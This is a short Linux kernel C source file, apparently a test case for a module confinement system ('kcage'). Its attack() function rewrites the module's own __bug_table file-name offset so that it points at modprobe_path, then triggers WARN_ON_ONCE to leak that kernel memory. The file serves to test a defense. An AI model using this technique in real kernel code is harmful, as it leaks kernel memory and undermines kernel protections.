// SPDX-License-Identifier: GPL-2.0
/*
 * atk_bug_rewrite: after load, rewrites its own __bug_table entry so that
 * its file name is kernel memory (target= modprobe_path), then WARNs:
 * the warning would print that memory.  On 6.1 the once flag is written
 * at the entry itself (report_bug(), and kcage's own WARN handling), so
 * the entry cannot aim that write elsewhere; THIS_MODULE's bug_table
 * pointer could (atk_this_module covers struct module).
 */
#include <linux/bug.h>
#include "attack.h"

static int attack(struct file *f)
{
	struct bug_entry *bug = THIS_MODULE->bug_table;
	s32 disp;

	if (!THIS_MODULE->num_bugs)
		return -ENOENT;
	disp = (s32)(target - (unsigned long)&bug->file_disp);
	asm volatile("movl %1, %0" : "=m" (bug->file_disp) : "r" (disp));
	WARN_ON_ONCE(1);
	return 0;
}
